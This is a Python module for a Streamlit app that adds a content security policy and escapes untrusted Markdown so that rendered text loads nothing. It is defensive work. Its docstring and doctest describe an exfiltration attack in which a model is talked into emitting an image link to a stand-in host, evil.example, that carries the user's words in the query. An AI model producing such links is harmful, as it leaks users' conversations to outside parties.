"""Two layers against text that would reach out of the page: a content security policy, and `inert` Markdown.

A model can be talked into answering `![](https://evil.example/?q=<what you said>)`; Streamlit would fetch that picture
at once, and what was said would be gone. `inert` shows it as it was typed; the policy forbids the browser to fetch it
even where `inert` was forgotten.

    >>> print(inert("See ![x](https://evil.example/?q=secret), `![code]` and [this](https://example.org/page)."))
    See !\\[x\\]([https\\://evil.example/?q=secret](<https://evil.example/?q=secret>)), `![code]` and \
[this](<https://example.org/page>) (example.org).
"""

from __future__ import annotations

import base64
import hashlib
import re
import textwrap
from functools import lru_cache
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from streamlit import file_util

from pages.ui import reload

if TYPE_CHECKING:
    from starlette.types import ASGIApp, Message, Receive, Scope, Send


# --- the policy -------------------------------------------------------------------------------------------------------

_INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)
_HOST = re.compile(r"(?:[A-Za-z0-9.-]+|\[[0-9A-Fa-f:.]+\])(?::\d{1,5})?")


@lru_cache(maxsize=1)
def _inline_script_hashes() -> tuple[str, ...]:
    """The hashes of the scripts that stand inside the document: the installed Streamlit's own, and ours."""
    html = (Path(file_util.get_static_dir()) / "index.html").read_text(encoding="utf-8")
    digests = (hashlib.sha256(script.encode()).digest() for script in [*_INLINE_SCRIPT.findall(html), reload.SCRIPT])
    return tuple(f"'sha256-{base64.b64encode(digest).decode()}'" for digest in digests)


def content_security_policy(host: str = "") -> str:
    """The policy for a page that was asked for under `host` (a Host header, trusted in nothing but its shape)."""
    # 'self' covers the page's own websocket in today's browsers; older ones need the address.
    sockets = f" ws://{host} wss://{host}" if _HOST.fullmatch(host) else ""
    return "; ".join(
        (
            "default-src 'self'",
            "img-src 'self' data: blob:",
            "media-src 'self' data: blob:",
            # blob: is how Streamlit loads the script of a component of ours.
            f"script-src 'self' {' '.join(_inline_script_hashes())} blob:",
            "style-src 'self' 'unsafe-inline'",
            "font-src 'self' data:",
            f"connect-src 'self'{sockets}",
            "worker-src 'self' blob:",
            "frame-src 'self' blob: data:",
            "object-src 'none'",
            "base-uri 'self'",
            "form-action 'self'",
            "frame-ancestors 'none'",
        )
    )


class SecurityHeaders:
    """ASGI middleware that sends the policy and its companions with every response."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        _inline_script_hashes()  # a Streamlit whose document cannot be read fails at start, not at the first visit

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        host = dict(scope["headers"]).get(b"host", b"").decode("latin-1")

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                message["headers"] = [
                    *message["headers"],
                    (b"content-security-policy", content_security_policy(host).encode("latin-1")),
                    (b"x-content-type-options", b"nosniff"),
                    (b"referrer-policy", b"no-referrer"),
                ]
            await send(message)

        await self.app(scope, receive, send_with_headers)


# --- the text ---------------------------------------------------------------------------------------------------------
#
# Escape by default, allow by exception. Streamlit reads CommonMark, GitHub's additions, formulas and its own
# directives, each of which may swallow a character that another reading takes for the end of some code. So every
# character that could open a construct is escaped, except in what is known: blocks of code, code spans that begin and
# end on one line, and links whose address is plain. What remains is emphasis, headings, lists, quotes and tables.

_MERMAID = re.compile(r"mermaid(?!\w)", re.IGNORECASE)
_LANGUAGE = re.compile(r"[A-Za-z0-9][\w+#.-]{0,30}", re.ASCII)
_FENCE = re.compile(r"(?P<before>.*?)(?P<fence>`{3,}|~{3,})(?P<info>[^\n]*)")
_DELIMITER_ROW = re.compile(r"[\s>|:-]*-[\s>|:-]*")
_OPENING = frozenset("[]<$")
_EMPHASIS = frozenset("\\`*_~>!|")
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_WWW = re.compile(r"(www)\.", re.IGNORECASE)
_SHORTCODE = re.compile(r":[\w+-]+$")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_SPECIAL = re.compile(r"[\\`!\[\]<$:\t\r\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|~~~|www|(?m:^(?: {4}))", re.IGNORECASE)

_URL = r"(?:https?://(?:[\w-][\w.-]*|\[[0-9A-Fa-f:.]+\])(?::\d{1,5})?(?:[/?#][^\s<>\[\]\\`\x00-\x1f\x7f]*)?)"
_BARE = re.compile(_URL, re.IGNORECASE)
_AUTOLINK = re.compile(f"<({_URL})>", re.IGNORECASE)
_LINK = re.compile(
    # [text](address "title"): no brackets in the text, at most one level of parentheses in the address
    r"\[(?P<text>(?:[^\[\]\\`\n]|\\.|`[^`\n]+`)+)\]"
    r"\((?P<url>(?:[^\s()<>\\`]|\([^\s()<>\\`]*\))+|<[^\s<>\\`]+>)(?:\s+\"[^\"\\`\n]*\")?\)"
)


def inert(text: str) -> str:
    """Make Markdown that somebody else wrote safe to draw: it loads nothing and draws nothing but text.

    Pictures, HTML, formulas, diagrams and Streamlit's directives appear as they were typed; code keeps its bytes;
    a link says in parentheses which host it leads to, and one that does not lead to a host is no link.
    """
    if not _SPECIAL.search(text):
        return text
    # A message is drawn again at every click; long ones are rare and would fill the cache with megabytes.
    return _inert_short(text) if len(text) <= 20_000 else _inert(text)


@lru_cache(maxsize=512)
def _inert_short(text: str) -> str:
    return _inert(text)


def inert_label(text: str) -> str:
    """The same for a label (an expander's, a button's), which is one line and knows no blocks."""
    return _inert_span(_CONTROL.sub("\ufffd", " ".join(text.split())), tables=False, links=True)


def literal_label(text: str) -> str:
    """The same for a name, which appears as it was typed: without emphasis, code and links, too."""
    return _WWW.sub(r"\1\\.", _escaped(_CONTROL.sub("\ufffd", " ".join(text.split()))))


def _inert(text: str) -> str:
    # Streamlit removes common indentation, and with it blocks of code, before it reads; so it must not find any.
    text = textwrap.dedent(text.replace("\r\n", "\n").replace("\r", "\n")).strip()
    text = _CONTROL.sub("\ufffd", text)
    lines = text.split("\n")
    tables = any(_DELIMITER_ROW.fullmatch(line) for line in lines)
    code = _code_lines(text)
    return "\n".join(
        code[number] if number in code else _inert_line(line, tables=tables) for number, line in enumerate(lines)
    )


@lru_cache(maxsize=1)
def _blocks() -> MarkdownIt:
    # HTML and definitions are escaped, so there are none; inline Markdown is not read here.
    parser = MarkdownIt("commonmark").enable("table").disable(["html_block", "reference"])
    parser.core.ruler.enableOnly(["normalize", "block"])
    return parser


def _code_lines(text: str) -> dict[int, str]:
    """The lines that belong to blocks of code, by number, ready to be drawn."""
    lines = text.split("\n")
    code: dict[int, str] = {}
    for token in _blocks().parse(text):
        if token.map and token.type in ("fence", "code_block"):
            first, end = token.map
            code.update((number, lines[number]) for number in range(first, min(end, len(lines))))
            if token.type == "fence":
                code[first] = _plain_fence(lines[first], token.markup, token.info)
    return code


def _plain_fence(line: str, markup: str, info: str) -> str:
    """The opening line of a fence with at most a harmless language: Streamlit draws what is called mermaid."""
    language = _LANGUAGE.fullmatch((info.split() or [""])[0])
    keep = language[0] if language and not _MERMAID.match(language[0]) else ""
    return line[: line.index(markup) + len(markup)] + keep


def _inert_line(line: str, *, tables: bool) -> str:
    if _DELIMITER_ROW.fullmatch(line):
        return line
    return _inert_span(line, tables=tables, links=True)


def _inert_span(text: str, *, tables: bool, links: bool) -> str:
    out: list[str] = []
    position = 0
    while position < len(text):
        char = text[position]
        taken, drawn = 1, char
        if char == "\\" and position + 1 < len(text) and text[position + 1] in _PUNCTUATION:
            taken, drawn = 2, text[position : position + 2]
            if drawn == "\\:":  # an escape that Streamlit's replacements in the finished text do not see
                drawn = _plain(text, position + 1)
        elif char == "`":
            taken, drawn = _code_span(text, position, tables=tables)
        elif char == "<" and links and (match := _AUTOLINK.match(text, position)):
            taken, drawn = len(match[0]), _bare_link(match[1])
        elif char == "[" and links and (match := _LINK.match(text, position)):
            taken, drawn = _link(match, tables=tables)
        elif char == "!" and text.startswith("![", position):
            taken, drawn = 2, "!\\["
        elif char in "hH" and links and not _inside_word(text, position) and (match := _BARE.match(text, position)):
            url = _without_what_follows(match[0])
            taken, drawn = len(url), _bare_link(url)
        elif char in "wW" and text[position : position + 4].lower() == "www.":
            taken, drawn = 4, text[position : position + 3] + "\\."
        else:
            drawn = _plain(text, position)
        if drawn.startswith("[") and out and out[-1] == "!":
            out[-1] = "\\!"  # or the link would become a picture
        out.append(drawn)
        position += taken
    return "".join(out)


def _code_span(text: str, position: int, *, tables: bool) -> tuple[int, str]:
    run = re.compile("`+").match(text, position)
    assert run is not None
    closing = re.compile(f"(?<!`){run[0]}(?!`)").search(text, run.end())
    span = text[position : closing.end()] if closing else ""
    # In a row of a table a bar ends the cell, and with it the code.
    if not span or (tables and "|" in span):
        return len(run[0]), "\\`" * len(run[0])
    return len(span), span


def _plain(text: str, position: int) -> str:
    """One character in a form that opens nothing."""
    char = text[position]
    if char in _OPENING:
        return "\\" + char
    if char == "!" and text.startswith("![", position):
        return "\\!"
    if char == "/" and text.startswith(":material/", max(0, position - 9)):
        return "\\/"  # Streamlit replaces ":material/" before it reads any escape
    if char != ":":
        return char
    # Streamlit finds these in the finished text, after all escapes: something invisible must stand between.
    if text.startswith((":material_", ":streamlit:"), position):
        return "\\:\u2060"
    # What follows may be a directive's name, an emoji's, or an address; what precedes may be the rest of an emoji's.
    following = text[position + 1 : position + 2]
    opens = following and not following.isspace()
    return "\\:" if opens or _SHORTCODE.search(text[max(0, position - 64) : position]) else ":"


def _link(match: re.Match[str], *, tables: bool) -> tuple[int, str]:
    url = match["url"].strip("<>")
    label = _inert_span(match["text"], tables=tables, links=False)
    if url.lower().startswith("mailto:"):
        return len(match[0]), f"{label} ({_escaped(url[7:])})"
    if not _BARE.fullmatch(url) or (tables and "|" in url):
        return 1, "\\["
    return len(match[0]), f"[{label}](<{_address(url)}>) ({_escaped(_host(url))})"


def _bare_link(url: str) -> str:
    return f"[{_escaped(url)}](<{_address(url)}>)"


def _address(url: str) -> str:
    """The address as it stands between < and >, with what could still be read as something else in its coded form."""
    for char, coded in (("&", "&amp;"), ("|", "%7C"), ("!", "%21"), ("$", "%24"), (":material/", "%3Amaterial/")):
        url = url.replace(char, coded)
    return url


def _host(url: str) -> str:
    """The host as the browser will look it up: letters that only look Latin show their code."""
    host = urlsplit(url).hostname or ""
    if host.isascii():
        return host
    try:
        return host.encode("idna").decode()
    except UnicodeError:
        return host.encode("ascii", "backslashreplace").decode()


def _escaped(text: str) -> str:
    """A text that is drawn as it is, with no emphasis and no link."""
    return "".join("\\" + char if char in _EMPHASIS else _plain(text, position) for position, char in enumerate(text))


def _inside_word(text: str, position: int) -> bool:
    return position > 0 and text[position - 1].isalnum()


def _without_what_follows(url: str) -> str:
    """A full stop after an address, or the parenthesis around it, is not part of it."""
    depth = 0
    for position, char in enumerate(url):
        depth += (char == "(") - (char == ")")
        if depth < 0:
            url = url[:position]
            break
    return url.rstrip(".,:;!?*_~'\"")
